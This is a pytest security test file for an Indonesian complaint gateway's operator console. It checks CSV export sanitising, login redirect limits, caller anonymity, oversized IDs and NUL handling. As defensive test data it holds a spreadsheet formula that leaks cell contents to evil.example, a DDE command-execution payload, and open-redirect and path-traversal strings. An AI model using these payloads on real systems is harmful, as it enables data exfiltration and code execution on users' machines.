"""The operator console attacked through what citizens, central systems and links can
put in front of an operator: spreadsheet formulas in an export, a login link that sends
the operator elsewhere, a search that would unmask an anonymous caller. Real HTTP to
the app on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re

import pytest
from flask import Flask
from sqlalchemy import select

from gateway.jobs.worker import make_worker
from gateway.runtime import Runtime
from gateway.store.models import CallRecord
from gateway.web.app import create_app
from tests.gateway.test_central_events import SECRET, push
from tests.gateway.test_console import KEY, PASSWORD, TOKEN, add, login, token

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik untuk detail")'


@pytest.fixture
def console(make_settings) -> Flask:
    app = create_app(make_settings())
    add(app, "ani", "operator")
    add(app, "sari", "supervisor")
    yield app
    app.extensions["lapor"].close()


@pytest.fixture
def delivering(make_settings, central) -> Flask:
    """The console of a gateway that delivers to the sandbox central system, which
    pushes status events back."""
    app = create_app(
        make_settings(central_events_secret=SECRET, forward_url=central.url, status_poll_seconds=0)
    )
    add(app, "sari", "supervisor")
    yield app
    app.extensions["lapor"].close()


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(delivering):
    console = delivering
    api = console.test_client()
    agencies = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
    codes = []
    for n in range(len(agencies)):
        doc = {
            "channel": "sms",
            "received_at": f"2026-11-{n + 2:02d}T09:00:00+07:00",
            "reporter": {"privacy": "confidential"},
            "title": FORMULA,
            "description": FORMULA + " jalan rusak di depan sekolah sudah dua bulan.",
        }
        codes.append(api.post("/api/v1/complaints", json=doc, headers=KEY).json["tracking_code"])
    worker = Runtime(console.extensions["lapor"].settings)  # delivered: events may follow
    make_worker(worker, poll_seconds=0.01).run(max_idle_polls=1)
    worker.close()
    for n, (code, agency) in enumerate(zip(codes, agencies, strict=True)):
        event = {"event_id": f"e{n}", "tracking_code": code, "status": "dispositioned"}
        event |= {"occurred_at": f"2026-11-{n + 3:02d}T09:00:00+07:00", "agency": agency}
        pushed = push(api, event).json
        assert pushed["recorded"] == 1, pushed
    client = console.test_client()
    login(client, "sari")
    for by in ("agency", "channel", "category", "region"):
        exported = client.get(f"/operator/dashboard.csv?start=2026-11-01&end=2026-11-30&by={by}")
        assert exported.status_code == 200
        rows = list(csv.reader(io.StringIO(exported.text)))
        for row in rows:
            for cell in row:
                assert not cell or cell[0] not in "=+-@\t\r", (by, cell)
    exported = client.get("/operator/dashboard.csv?start=2026-11-01&end=2026-11-30&by=agency")
    groups = {r["Kelompok"] for r in csv.DictReader(io.StringIO(exported.text))}
    # kept readable: the apostrophe tells the spreadsheet it is text, nothing is lost
    assert groups >= {"'" + a for a in agencies}


def _call(call_id: str, privacy: str, text: str) -> dict:
    return {
        "call_id": call_id,
        "caller_number": "+6281299998888",
        "caller_name": "Budi Santoso",
        "privacy": privacy,
        "location": "Kota Bogor",
        "turns": [{"speaker": "caller", "text": text}],
    }


LONG = "Sampah menumpuk di pinggir jalan sudah seminggu tidak diangkut, hubungi 081299998888."


def test_an_anonymous_callers_identity_shows_only_while_the_call_is_drafted(console):
    api = console.test_client()
    short = api.post("/api/v1/calls", json=_call("a-1", "anonymous", "Sampah pak."), headers=KEY)
    assert short.json["status"] == "needs_review"
    done = api.post("/api/v1/calls", json=_call("a-2", "anonymous", LONG), headers=KEY)
    assert done.json["status"] == "submitted"  # submitted at once: never a draft to anyone
    client = console.test_client()
    login(client, "ani")
    with console.extensions["lapor"].sessions() as s:
        ids = dict(s.execute(select(CallRecord.call_id, CallRecord.id)).all())
    draft = client.get(f"/operator/review/{ids['a-1']}").text
    # the operator finishing the draft sees who called (the caller may be on the line)
    assert 'value="+6281299998888"' in draft and "Budi Santoso" in draft
    for text in (
        client.get(f"/operator/review/{ids['a-2']}").text,
        client.get(f"/operator/calls/{ids['a-2']}/logged").text,
    ):
        assert "6281299998888" not in text and "Budi Santoso" not in text
        assert "081299998888" not in text  # nor the number said in the call
    form = {
        "csrf_token": TOKEN.search(draft).group(1),
        "phone": "+6281299998888",
        "name": "Budi Santoso",
        "description": LONG,
        "location_text": "Kota Bogor",
        "privacy": "anonymous",
        "submit": "1",
    }
    assert client.post(f"/operator/review/{ids['a-1']}", data=form).status_code == 302
    after = client.get(f"/operator/review/{ids['a-1']}").text
    assert "status <strong>sudah dikirim" in after
    assert "6281299998888" not in after and "Budi Santoso" not in after


def test_a_phone_search_never_finds_an_anonymous_call(console):
    api = console.test_client()
    api.post("/api/v1/calls", json=_call("a-1", "anonymous", "Sampah pak."), headers=KEY)
    api.post("/api/v1/calls", json=_call("a-2", "anonymous", LONG), headers=KEY)
    client = console.test_client()
    login(client, "ani")
    for query in ("0812-9999-8888", "+6281299998888", "6281299998888"):
        found = client.get("/operator/complaints", query_string={"q": query}).text
        assert "/operator/review/" not in found and "/operator/complaints/LPR-" not in found
        assert 'id="no-results"' in found
    # the same caller's public draft is found by the number
    api.post("/api/v1/calls", json=_call("p-1", "public", "Sampah pak."), headers=KEY)
    found = client.get("/operator/complaints", query_string={"q": "081299998888"}).text
    assert len(re.findall(r"/operator/review/\d+", found)) == 1


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/operator/",
        "//evil.example/operator/",
        "///evil.example/operator/",
        "/\\evil.example/operator/",
        "\\\\evil.example/operator/",
        "/operator/\\evil.example",
        "/operator/\\\\evil.example",
        "javascript:alert(1)//operator/",
        "http:/operator/review",
        "/operator/../media/token",
        "/operator/./../api/v1/complaints",
        "/operator/%2e%2e/media/token",
        "/operator/%2E%2E/media/token",
        "/operator/.%2e/media/token",
        "/operator/%252e%252e/media/token",
        "/operator/..%2fmedia",
        "/operator/%2f%2fevil.example",
        "/operator//evil.example",
        "/operator/%5cevil.example",
        "/operator/\t/evil.example",
        "/operator/%09/evil.example",
        "/operator/\n",
        " /operator/review",
        "/operator",
        "/operatorx/",
        "/media/token",
        "",
    ],
)
def test_login_refuses_a_next_outside_the_console(console, target):
    client = console.test_client()
    response = client.post(
        "/operator/login",
        query_string={"next": target},
        data={"username": "ani", "password": PASSWORD, "csrf_token": token(client)},
    )
    assert response.status_code == 302
    assert response.headers["Location"] == "/operator/calls/new", target


@pytest.mark.parametrize(
    "target", ["/operator/review", "/operator/complaints?q=LPR-7K3M9Q2X", "/operator/review/3"]
)
def test_login_still_returns_to_a_console_page(console, target):
    client = console.test_client()
    response = client.post(
        "/operator/login",
        query_string={"next": target},
        data={"username": "ani", "password": PASSWORD, "csrf_token": token(client)},
    )
    assert response.headers["Location"] == target


TOO_BIG = str(2**63)  # one past what a BIGINT id column holds


@pytest.mark.parametrize(
    "path",
    [
        f"/operator/inbox/{TOO_BIG}",
        f"/operator/calls/{TOO_BIG}",
        f"/operator/calls/{TOO_BIG}/logged",
        f"/operator/review/{TOO_BIG}",
        "/operator/inbox/99999999999999999999999",
    ],
)
def test_an_id_past_what_the_database_holds_names_nothing(console, path):
    client = console.test_client()
    login(client, "ani")
    assert client.get(path).status_code == 404


def test_posting_to_an_id_past_what_the_database_holds_names_nothing(console):
    client = console.test_client()
    login(client, "sari")
    csrf = token(client, "/operator/inbox")
    for path in (f"/operator/inbox/{TOO_BIG}/reply", f"/operator/inbox/{TOO_BIG}/close"):
        answer = client.post(path, data={"csrf_token": csrf, "text": "halo"})
        assert answer.status_code == 404, path
    retry = client.post(f"/operator/dead-letters/{TOO_BIG}/retry", data={"csrf_token": csrf})
    assert retry.status_code == 404


@pytest.mark.parametrize(
    "query",
    [
        "start=0001-01-01&end=0001-01-01",
        "start=9999-12-30&end=9999-12-31",
        "start=1999-12-31&end=2000-01-05",
        f"page={TOO_BIG}",
        "page=99999999999999999999",
    ],
)
def test_the_dashboard_takes_any_period_or_page_without_a_500(console, query):
    client = console.test_client()
    login(client, "sari")
    for path in ("/operator/dashboard", "/operator/dashboard.csv", "/operator/dashboard/laporan"):
        assert client.get(f"{path}?{query}").status_code == 200, (path, query)


@pytest.mark.parametrize(
    "path",
    ["/operator/inbox?kanal=%00", "/operator/dashboard/laporan?group=%00", "/lapor?kode=%00x"],
)
def test_a_nul_in_a_query_string_is_400(console, path):
    client = console.test_client()
    login(client, "sari")
    answer = client.get(path)
    assert answer.status_code == 400
